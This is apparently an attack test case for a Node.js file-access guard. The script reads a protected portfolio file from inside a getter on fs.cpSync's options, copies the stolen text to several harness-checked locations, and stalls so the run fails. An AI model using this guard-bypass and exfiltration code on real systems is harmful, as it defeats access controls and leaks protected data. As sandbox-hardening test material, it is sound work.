/* @attack {"title": "read runs/attacker/c2/portfolio_candidates.json from inside cpSync's options getter, while the guard's wrappers stand down", "setup": ["rel-symlink-chain"], "maxSeconds": 20} */
import fs from 'node:fs';

const run = process.env.SLEEVE_RUN_DIR;
const workspace = process.cwd();

/**
 * What a read got: when it is the protected content, copy it into the run dir
 * and try the places the harness checks (next to the workspace, the lakehouse,
 * the tmp marker, and the lakehouse again through the hole the read used, when
 * the attack passes one); unless that last copy landed, stay alive past
 * maxSeconds, so that the harness fails the run ("no report") even when every
 * copy is refused.
 */
async function exfiltrate(how, content, ...holes) {
  const text = typeof content === 'string' ? content : Buffer.from(content ?? '').toString('utf8');
  if (!/"AAPL"\s*,\s*"MSFT"|SECRET-/.test(text)) {
    console.log(`${how}: read ${JSON.stringify(text.slice(0, 60))}, not the protected content`);
    return;
  }
  console.log(`ESCAPED ${how}: ${text.trim()}`);
  for (const dest of [`${run}/stolen.json`, `${process.env.OUTSIDE}/leak.json`, `${workspace}/data/lakehouse/leak.json`, process.env.TMP_MARKER]) {
    try {
      fs.writeFileSync(dest, text);
    } catch (error) {
      console.log(`copy to ${dest}: ${error.code}`);
    }
  }
  // The hole the read went through, used again to write the loot into the lakehouse.
  for (const hole of holes) {
    try {
      await hole(text);
      console.log('copied into the lakehouse through the same hole');
      return;
    } catch (error) {
      console.log(`copy through the same hole: ${error.code}`);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 120_000));
  process.exit(0);
}

for (let i = 0; i < 400 && !fs.existsSync(`${run}/.ready`); i++) await new Promise((r) => setTimeout(r, 25));
fs.writeFileSync(`${run}/a.txt`, 'a\n');
let stolen;
try {
  fs.cpSync(`${run}/a.txt`, `${run}/b.txt`, {
    get force() {
      try {
        stolen = fs.readFileSync(`${run}/c2/portfolio_candidates.json`, 'utf8');
      } catch (error) {
        console.log(`getter read: ${error.code}`);
      }
      return true;
    },
  });
} catch (error) {
  console.log(`cpSync: ${error.code}`);
}
const leak = (text) =>
  fs.cpSync(`${run}/a.txt`, `${run}/leak-carrier.txt`, {
    get force() {
      fs.writeFileSync(`${run}/c2/leak.json`, text);
      return true;
    },
  });
if (stolen !== undefined) await exfiltrate('cpSync force getter through c2', stolen, leak);
